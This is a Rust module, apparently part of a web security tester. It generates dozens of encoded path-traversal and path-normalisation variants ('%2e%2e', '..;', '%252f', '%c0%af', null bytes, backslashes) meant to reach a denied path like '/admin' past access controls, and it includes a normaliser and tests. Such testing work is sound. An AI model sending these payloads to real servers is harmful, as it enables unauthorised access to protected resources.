//! Odd ways to write a path, and what servers make of one.

use std::collections::BTreeSet;

/// How many readings of one target are looked at: more than any that is sent here has.
const READINGS_MAX: usize = 1_000;

/// Targets that some servers take for the path `denied`, and some for one under `allowed` or
/// another one; both begin with `/`. `authority` is what the client says in `Host`.
pub(super) fn odd_targets(allowed: &str, denied: &str, authority: &str) -> Vec<String> {
    let up = |segment: &str| format!("{allowed}{}", climb(allowed, segment));
    let bare = denied.trim_start_matches('/');
    let parent = allowed.rsplit_once('/').map_or("", |(parent, _)| parent);
    let mut targets = Vec::new();
    // Up from the allowed path, in every writing of `/..`.
    for segment in [
        "/..",
        "/%2e%2e",
        "/%2E%2e",
        "/.%2e",
        "/%2e.",
        "/%252e%252e",
        "/..;",
        "/..;x=y",
        "/..%00",
        "/..%09",
        "//..",
        "/./..",
        "/%2f..",
        "%2f..",
        "%2F..",
        "%252f..",
        "%5c..",
        "\\..",
        "%c0%af..",
        "/x;/../..",
        "/x/../..",
        "/..%20",
        "/%00/../..",
    ] {
        targets.push(format!("{}{denied}", up(segment)));
    }
    // Down again in every writing of `/`.
    for slash in [
        "%2f", "%2F", "%252f", "%5c", "\\", "%c0%af", "//", "/./", "/%2e/",
    ] {
        targets.push(format!("{}{slash}{bare}", up("/..")));
    }
    targets.extend(alone(denied, parent));
    // Both paths in one target.
    let allowed_up = climb(denied, "/..");
    for (one, between, other) in [
        (denied, "?/..", allowed),
        (denied, "#/..", allowed),
        (denied, "?", allowed),
        (denied, &*allowed_up, allowed),
        (denied, "%3f/..", allowed),
        (denied, "%23", allowed),
    ] {
        targets.push(format!("{one}{between}{other}"));
    }
    targets.push(format!("{}{denied}?{allowed}", up("/..")));
    targets.push(format!("{}{denied}#{allowed}", up("/..")));
    // With a host.
    for host in [authority, "127.0.0.1", "other.test"] {
        targets.push(format!("http://{host}{denied}"));
        targets.push(format!("http://{host}{}{denied}", up("/..")));
    }
    targets.push(bare.to_owned());
    targets
}

/// The denied path by itself; `parent` is what the allowed one stands under.
fn alone(denied: &str, parent: &str) -> Vec<String> {
    let bare = denied.trim_start_matches('/');
    let mut targets = Vec::new();
    for (before, after) in [
        ("/", ""),
        ("//", ""),
        ("/.", ""),
        ("/./", ""),
        ("/%2e", ""),
        ("/;", ""),
        ("/;x=y", ""),
        ("/x/..", ""),
        ("", "/"),
        ("", "/."),
        ("", ";"),
        ("", ";x"),
        ("", "%2f"),
        ("", "%00"),
        ("", "%20"),
        ("", "?"),
        ("", "#"),
        ("", "//"),
        ("", "/x/.."),
        ("", "%3f"),
        ("", "%23"),
    ] {
        targets.push(format!("{before}{denied}{after}"));
    }
    targets.push(format!("\\{bare}"));
    targets.push(format!("{parent}\\..{denied}"));
    targets.push(encoded(denied, "%"));
    targets.push(encoded(denied, "%25"));
    targets
}

/// As many times up as a path has segments.
fn climb(path: &str, segment: &str) -> String {
    let depth = path.split('/').filter(|it| !it.is_empty()).count();
    segment.repeat(depth.max(1))
}

/// A path with its first letter as an escape.
fn encoded(path: &str, escape: &str) -> String {
    let bare = path.trim_start_matches('/');
    let mut chars = bare.chars();
    let first = chars.next().unwrap_or('/');
    format!("/{escape}{:02x}{}", u32::from(first), chars.as_str())
}

/// How a target can be read as the path `denied` or one below it, by some server.
pub(super) fn reading_as(target: &str, denied: &str) -> Option<String> {
    let denied = denied.trim_end_matches('/');
    let readings = readings(target);
    readings.into_iter().find(|path| {
        let rest = path.strip_prefix(denied);
        rest.is_some_and(|rest| rest.is_empty() || rest.starts_with('/'))
    })
}

/// Every path that a server may make of a target.
fn readings(target: &str) -> BTreeSet<String> {
    let path = match target.split_once("://") {
        Some((scheme, rest)) if scheme.bytes().all(|byte| byte.is_ascii_alphabetic()) => {
            rest.find('/').and_then(|at| rest.get(at..)).unwrap_or("/")
        }
        _ => target,
    };
    let path = path.split('?').next().unwrap_or_default();
    let mut fresh = vec![path.to_owned()];
    fresh.extend(path.split('#').next().map(str::to_owned));
    let mut found = BTreeSet::new();
    while let Some(text) = fresh.pop() {
        if found.len() >= READINGS_MAX || !found.insert(text.clone()) {
            continue;
        }
        fresh.push(unescaped(&text));
        fresh.push(text.replace('\\', "/"));
        fresh.push(text.replace("\u{c0}\u{af}", "/"));
        fresh.push(merged(&text));
        fresh.push(without_parameters(&text));
        fresh.push(text.split('\0').next().unwrap_or_default().to_owned());
        fresh.push(without_dots(&text));
        fresh.push(text.trim().to_owned());
        // What was an escape can end the path once it is none.
        fresh.push(text.split(['?', '#']).next().unwrap_or_default().to_owned());
        fresh.push(text.replace('\0', ""));
        if !text.starts_with('/') {
            fresh.push(format!("/{text}"));
        }
    }
    found
}

/// Without escapes, each byte a character.
fn unescaped(text: &str) -> String {
    let mut plain = String::new();
    let mut rest = text;
    while let Some((before, after)) = rest.split_once('%') {
        plain.push_str(before);
        let digits = after
            .get(..2)
            .filter(|it| it.bytes().all(|byte| byte.is_ascii_hexdigit()));
        let byte = digits.and_then(|digits| u8::from_str_radix(digits, 16).ok());
        plain.push(byte.map_or('%', char::from));
        rest = if byte.is_some() {
            after.get(2..).unwrap_or_default()
        } else {
            after
        };
    }
    plain + rest
}

fn merged(text: &str) -> String {
    let mut merged = text.to_owned();
    while merged.contains("//") {
        merged = merged.replace("//", "/");
    }
    merged
}

fn without_parameters(text: &str) -> String {
    let segments = text
        .split('/')
        .map(|segment| segment.split(';').next().unwrap_or_default());
    segments.collect::<Vec<_>>().join("/")
}

fn without_dots(text: &str) -> String {
    let mut kept = Vec::new();
    for segment in text.split('/') {
        match segment.trim() {
            ".." => drop(kept.pop()),
            "." => {}
            _ => kept.push(segment),
        }
    }
    format!("/{}", kept.join("/").trim_start_matches('/'))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_may_be_read_as_the_denied_path_is_found() {
        for target in [
            "/admin",
            "/admin/x",
            "/public/../admin",
            "/public/%2e%2e/admin",
            "//admin",
            "/admin;x",
            "/public/..%2fadmin",
            "/public/..%252fadmin",
            "/public/..;a=b/admin",
            "/%61dmin",
            "/public\\..\\admin",
            "/public/..%5cadmin",
            "/admin%00.txt",
            "/admin?/public",
            "/public/..%c0%afadmin",
            "http://other/admin",
            "/admin#/public",
            "/public//../admin",
            "/x/..%20/admin",
            "admin",
            "/admin%3f/../public",
        ] {
            assert!(reading_as(target, "/admin").is_some(), "{target}");
        }
        for target in [
            "/public/x",
            "/administer",
            "/public/x?/../admin",
            "/public/x?next=/admin",
            "/",
            "",
            "/public/admin/",
            "/public/%zz",
            "/public/%",
        ] {
            assert_eq!(reading_as(target, "/admin"), None, "{target}");
        }
    }

    #[test]
    fn odd_targets_are_many_and_each_can_be_read_as_the_denied_path() {
        let targets = odd_targets("/public/x", "/admin/y", "api.example.com");
        assert!(targets.len() > 60, "{}", targets.len());
        for target in &targets {
            let is_denied = reading_as(target, "/admin/y").is_some();
            // A server that reads these ends up elsewhere, or at the allowed path.
            let is_other = target.starts_with("/admin/y/../../public");
            assert!(is_denied || is_other, "{target}");
        }
        let distinct: BTreeSet<_> = targets.iter().collect();
        assert_eq!(distinct.len(), targets.len());
    }
}
